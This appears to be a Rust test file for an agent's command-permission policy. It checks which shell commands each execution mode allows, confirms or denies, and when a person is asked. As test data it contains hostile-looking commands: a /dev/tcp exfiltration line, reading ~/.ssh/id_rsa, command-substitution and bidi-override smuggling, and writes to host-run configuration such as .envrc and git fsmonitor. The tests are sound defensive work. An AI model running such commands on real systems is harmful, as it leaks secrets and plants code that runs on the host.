//! `decide` and `authorize` across modes: what each mode does with each kind of command, and
//! when (and only when) a person is asked.

mod common;

use std::cell::RefCell;

use common::Fixture;
use spear_core::{
    Capability, CapabilityPolicy, CommandAssessment, ExecutionMode, ExecutionProfile, RefusalRule,
    ToolStatus,
};
use spear_policy::{
    Authorization, ConfirmRequest, Confirmation, Confirmer, Decision, authorize, decide,
};

use ExecutionMode::{Ask, Auto, Safe};

/// A confirmer that records every request and answers as told.
struct Recorder {
    answer: Confirmation,
    asked: RefCell<Vec<ConfirmRequest>>,
}

impl Recorder {
    fn new(answer: Confirmation) -> Self {
        Recorder {
            answer,
            asked: RefCell::new(Vec::new()),
        }
    }

    fn calls(&self) -> usize {
        self.asked.borrow().len()
    }
}

impl Confirmer for Recorder {
    fn confirm(&self, request: &ConfirmRequest) -> Confirmation {
        self.asked.borrow_mut().push(request.clone());
        self.answer
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Allow,
    Confirm,
    Deny,
}

fn kind(d: &Decision) -> Kind {
    match d {
        Decision::Allow(_) => Kind::Allow,
        Decision::Confirm(_) => Kind::Confirm,
        Decision::Deny(_) => Kind::Deny,
    }
}

fn assess(fx: &Fixture, script: &str) -> CommandAssessment {
    fx.classify(script)
}

/// (script, SAFE, ASK, AUTO, AUTO with --no-network)
const MATRIX: &[(&str, Kind, Kind, Kind, Kind)] = &[
    ("ls -la", Kind::Allow, Kind::Allow, Kind::Allow, Kind::Allow),
    (
        "grep -rn TODO .",
        Kind::Allow,
        Kind::Allow,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "cat /etc/hostname",
        Kind::Allow,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "echo hi > out.txt",
        Kind::Deny,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "cargo build",
        Kind::Deny,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "python3 script.py",
        Kind::Allow,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "pytest",
        Kind::Allow,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "curl -sS https://example.com",
        Kind::Deny,
        Kind::Confirm,
        Kind::Allow,
        Kind::Deny,
    ),
    (
        "npm install",
        Kind::Deny,
        Kind::Confirm,
        Kind::Allow,
        Kind::Deny,
    ),
    (
        "git clone https://github.com/x/y",
        Kind::Deny,
        Kind::Confirm,
        Kind::Allow,
        Kind::Deny,
    ),
    (
        "echo x > {CANARY}",
        Kind::Deny,
        Kind::Deny,
        Kind::Deny,
        Kind::Deny,
    ),
    ("sudo ls", Kind::Deny, Kind::Deny, Kind::Deny, Kind::Deny),
    (
        "ssh host ls",
        Kind::Deny,
        Kind::Deny,
        Kind::Deny,
        Kind::Deny,
    ),
    ("docker ps", Kind::Deny, Kind::Deny, Kind::Deny, Kind::Deny),
    ("git push", Kind::Deny, Kind::Deny, Kind::Deny, Kind::Deny),
    (
        // Host-run configuration: asked about in ASK and AUTO, never written in SAFE.
        "echo x > .envrc",
        Kind::Deny,
        Kind::Confirm,
        Kind::Confirm,
        Kind::Confirm,
    ),
    (
        "git config core.hooksPath .githooks",
        Kind::Deny,
        Kind::Confirm,
        Kind::Confirm,
        Kind::Confirm,
    ),
    (
        "git config user.name x",
        Kind::Deny,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "echo x > .spear/policy.toml",
        Kind::Deny,
        Kind::Deny,
        Kind::Deny,
        Kind::Deny,
    ),
    (
        "cat ~/.ssh/id_rsa",
        Kind::Deny,
        Kind::Deny,
        Kind::Deny,
        Kind::Deny,
    ),
    // Issue 12: what these commands can do decides, not the program's usual job. ASK asks before
    // each of them; SAFE runs the ones the read-only mount contains.
    (
        "cat payload.txt > /dev/tcp/203.0.113.1/80",
        Kind::Deny,
        Kind::Confirm,
        Kind::Allow,
        Kind::Deny,
    ),
    ("sysctl -p", Kind::Deny, Kind::Deny, Kind::Deny, Kind::Deny),
    (
        "make -p",
        Kind::Deny,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "info -o out.txt ls",
        Kind::Deny,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "wait -p 'a[$(touch x)]'",
        Kind::Allow,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "hash -p ./payload.txt ls; ls",
        Kind::Allow,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
    (
        "less --lesskey-src=keys README.md",
        Kind::Allow,
        Kind::Confirm,
        Kind::Allow,
        Kind::Allow,
    ),
];

#[test]
fn each_mode_decides_as_the_matrix_says() {
    let fx = Fixture::new();
    let mut failures = Vec::new();
    for (script, safe, ask, auto, offline) in MATRIX {
        let a = assess(&fx, script);
        let cmd = fx.sub(script);
        for (label, policy, expected) in [
            ("safe", CapabilityPolicy::for_mode(Safe), safe),
            ("ask", CapabilityPolicy::for_mode(Ask), ask),
            ("auto", CapabilityPolicy::for_mode(Auto), auto),
            (
                "auto --no-network",
                CapabilityPolicy::for_mode(Auto).without_network(),
                offline,
            ),
        ] {
            let got = kind(&decide(&a, policy, &cmd));
            if got != *expected {
                failures.push(format!(
                    "{script:?} in {label}: {got:?}, expected {expected:?} ({})",
                    a.class
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn safe_refuses_mutation_and_names_the_other_modes() {
    let fx = Fixture::new();
    let a = assess(&fx, "echo hi > out.txt");
    let Decision::Deny(r) = decide(&a, CapabilityPolicy::for_mode(Safe), "echo hi > out.txt")
    else {
        panic!("SAFE must refuse a write");
    };
    assert_eq!(r.rule(), RefusalRule::ModeForbids);
    let m = r.message();
    assert!(m.contains("--ask") && m.contains("--auto"), "{m}");
}

#[test]
fn no_network_says_so() {
    let fx = Fixture::new();
    let a = assess(&fx, "curl https://example.com");
    for mode in ExecutionMode::ALL {
        let Decision::Deny(r) = decide(
            &a,
            CapabilityPolicy::for_mode(mode).without_network(),
            "curl",
        ) else {
            panic!("--no-network must refuse in {mode}");
        };
        if mode == Safe {
            // SAFE never had the network; either message is true, but it must be a refusal.
            assert!(matches!(
                r.rule(),
                RefusalRule::ModeForbids | RefusalRule::NetworkRemoved
            ));
        } else {
            assert_eq!(r.rule(), RefusalRule::NetworkRemoved, "{mode}");
            assert!(r.message().contains("--no-network"));
        }
    }
}

#[test]
fn shell_complex_may_write_only_where_the_mode_grants_it() {
    let fx = Fixture::new();
    let a = assess(&fx, "python3 script.py");
    let Decision::Allow(safe) = decide(&a, CapabilityPolicy::for_mode(Safe), "x") else {
        panic!()
    };
    assert!(
        !safe.contains(Capability::WorkspaceWrite),
        "SAFE runs it read-only"
    );
    assert!(safe.contains(Capability::ShellComplex));
    let Decision::Allow(auto) = decide(&a, CapabilityPolicy::for_mode(Auto), "x") else {
        panic!()
    };
    assert!(auto.contains(Capability::WorkspaceWrite));
    let profile = ExecutionProfile::from_granted(safe, Vec::new());
    assert!(profile.workspace_read() && !profile.workspace_write() && profile.shell_complex());
}

#[test]
fn ask_confirms_and_binds_to_the_exact_command() {
    let fx = Fixture::new();
    let script = "echo \"\u{202e}; touch x #\u{202c} safe\" > out.txt";
    let a = assess(&fx, script);
    let yes = Recorder::new(Confirmation::Approved);
    let out = authorize(&a, CapabilityPolicy::for_mode(Ask), script, Some(&yes));
    assert!(
        matches!(out, Authorization::Granted(caps) if caps.contains(Capability::WorkspaceWrite))
    );
    assert_eq!(yes.calls(), 1);
    let asked = yes.asked.borrow();
    assert_eq!(
        asked[0].command, script,
        "what is approved is exactly what runs"
    );
    assert!(asked[0].capabilities.contains(Capability::WorkspaceWrite));
}

#[test]
fn ask_outcomes() {
    let fx = Fixture::new();
    let a = assess(&fx, "echo hi > out.txt");
    let ask = CapabilityPolicy::for_mode(Ask);

    let no = Recorder::new(Confirmation::Declined);
    let out = authorize(&a, ask, "echo hi > out.txt", Some(&no));
    let Authorization::Denied(r) = &out else {
        panic!("declined must deny: {out:?}")
    };
    assert_eq!(r.rule(), RefusalRule::Declined);
    assert_eq!(
        out.refusal_result().map(|r| r.status),
        Some(ToolStatus::Denied)
    );

    let nobody = Recorder::new(Confirmation::Unavailable);
    let out = authorize(&a, ask, "echo hi > out.txt", Some(&nobody));
    assert!(matches!(&out, Authorization::Cancelled(r) if r.rule() == RefusalRule::NoConfirmer));
    assert_eq!(
        out.refusal_result().map(|r| r.status),
        Some(ToolStatus::Cancelled)
    );

    // Handed to the client (MCP's input-required result): nothing runs now, and the reason says
    // the answer is awaited, not that nobody could be asked.
    let later = Recorder::new(Confirmation::Deferred);
    let out = authorize(&a, ask, "echo hi > out.txt", Some(&later));
    assert!(
        matches!(&out, Authorization::Cancelled(r) if r.rule() == RefusalRule::AwaitingConfirmation)
    );
    assert_eq!(
        out.refusal_result().map(|r| r.status),
        Some(ToolStatus::Cancelled)
    );
    assert_eq!(later.calls(), 1);

    let out = authorize(&a, ask, "echo hi > out.txt", None);
    assert!(matches!(&out, Authorization::Cancelled(r) if r.rule() == RefusalRule::NoConfirmer));
}

#[test]
fn read_only_work_is_never_asked_about() {
    let fx = Fixture::new();
    let rec = Recorder::new(Confirmation::Declined);
    for script in ["ls", "git log -3", "grep -rn x ."] {
        let a = assess(&fx, script);
        let out = authorize(&a, CapabilityPolicy::for_mode(Ask), script, Some(&rec));
        assert!(matches!(out, Authorization::Granted(_)), "{script}");
    }
    assert_eq!(
        rec.calls(),
        0,
        "positive control below shows the recorder does record"
    );
    let a = assess(&fx, "touch x");
    let _ = authorize(&a, CapabilityPolicy::for_mode(Ask), "touch x", Some(&rec));
    assert_eq!(rec.calls(), 1);
}

#[test]
fn a_denial_never_calls_the_confirmer() {
    let fx = Fixture::new();
    let rec = Recorder::new(Confirmation::Approved);
    for script in [
        "echo x > {CANARY}",
        "sudo ls",
        "ssh h",
        "git push",
        "cat ~/.ssh/id_rsa",
        "docker ps",
        "echo x > .spear/policy.toml",
    ] {
        let a = assess(&fx, script);
        for mode in ExecutionMode::ALL {
            let out = authorize(
                &a,
                CapabilityPolicy::for_mode(mode),
                &fx.sub(script),
                Some(&rec),
            );
            assert!(
                matches!(out, Authorization::Denied(_)),
                "{script} in {mode}: {out:?}"
            );
        }
    }
    // Network refused by --no-network in ASK: denied without asking, though ASK would ask for it.
    let a = assess(&fx, "curl https://example.com");
    let out = authorize(
        &a,
        CapabilityPolicy::for_mode(Ask).without_network(),
        "curl",
        Some(&rec),
    );
    assert!(matches!(out, Authorization::Denied(_)));
    assert_eq!(rec.calls(), 0, "no denial may reach the confirmer");
    // Positive control: the same recorder is called for something ASK confirms.
    let a = assess(&fx, "curl https://example.com");
    let _ = authorize(&a, CapabilityPolicy::for_mode(Ask), "curl", Some(&rec));
    assert_eq!(rec.calls(), 1);
}

#[test]
fn refusal_subjects_show_hidden_characters() {
    let fx = Fixture::new();
    let script = "echo x > .envrc\u{202e}";
    let a = assess(&fx, "echo x > out.txt");
    let Decision::Deny(r) = decide(&a, CapabilityPolicy::for_mode(Safe), script) else {
        panic!()
    };
    assert!(
        !r.message().contains('\u{202e}'),
        "a bidi override must not reach a message raw"
    );
    assert!(r.message().contains("\\u{202e}"), "{}", r.message());
}

/// A command known to write host-run configuration is asked about in AUTO as ASK would ask, and
/// the question names each file with what runs it on the host; declined or unanswered, it does
/// not run. The operator's allowance lets the entry through without asking (AUTO allows, ASK
/// asks as for any write). Positive control: the same write elsewhere is allowed in AUTO.
#[test]
fn host_run_configuration_is_asked_about_in_auto() {
    let fx = Fixture::new();
    let auto = CapabilityPolicy::for_mode(Auto);
    for script in [
        "echo x > .envrc",
        "printf '{}' > .vscode/tasks.json",
        "cp evil .husky/pre-commit",
        "echo '[core] fsmonitor = x' >> .git/config",
        "git config core.fsmonitor ./x",
        "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json",
        "ln -s ../x .mcp.json",
    ] {
        let a = assess(&fx, script);
        assert!(
            !a.host_config.is_empty(),
            "{script}: no host-run configuration found ({})",
            a.reason
        );
        assert!(
            matches!(decide(&a, auto, script), Decision::Confirm(_)),
            "{script}"
        );
        let rec = Recorder::new(Confirmation::Approved);
        assert!(matches!(
            authorize(&a, auto, script, Some(&rec)),
            Authorization::Granted(_)
        ));
        let asked = rec.asked.borrow();
        assert_eq!(asked.len(), 1, "{script}");
        assert_eq!(asked[0].host_config, a.host_config, "{script}");
        assert!(!asked[0].after_run);
        for answer in [Confirmation::Declined, Confirmation::Unavailable] {
            let rec = Recorder::new(answer);
            assert!(
                !matches!(
                    authorize(&a, auto, script, Some(&rec)),
                    Authorization::Granted(_)
                ),
                "{script}: {answer:?}"
            );
        }
        assert!(
            matches!(
                authorize(&a, auto, script, None),
                Authorization::Cancelled(_)
            ),
            "{script}: nobody to ask"
        );
    }
    let hit = assess(&fx, "echo x > .vscode/tasks.json");
    let w = &hit.host_config[0];
    assert_eq!(
        (w.path.as_str(), w.entry.as_str()),
        (".vscode/tasks.json", "vscode")
    );
    assert!(w.why.contains("VS Code"), "{}", w.why);
    // Positive control: an ordinary write is not asked about in AUTO.
    let plain = assess(&fx, "echo x > notes.txt");
    assert!(plain.host_config.is_empty());
    assert!(matches!(decide(&plain, auto, "echo"), Decision::Allow(_)));
    // The operator's allowance: that entry is not asked about, another still is.
    let allowing = Fixture::with_config(|mut c| {
        c.allow_host_config = vec!["vscode".into()];
        c
    });
    let a = allowing
        .policy
        .classify_script("echo x > .vscode/tasks.json", &allowing.ws);
    assert!(a.host_config.is_empty(), "{:?}", a.host_config);
    assert!(matches!(decide(&a, auto, "echo"), Decision::Allow(_)));
    let a = allowing
        .policy
        .classify_script("echo x > .envrc", &allowing.ws);
    assert!(matches!(decide(&a, auto, "echo"), Decision::Confirm(_)));
}
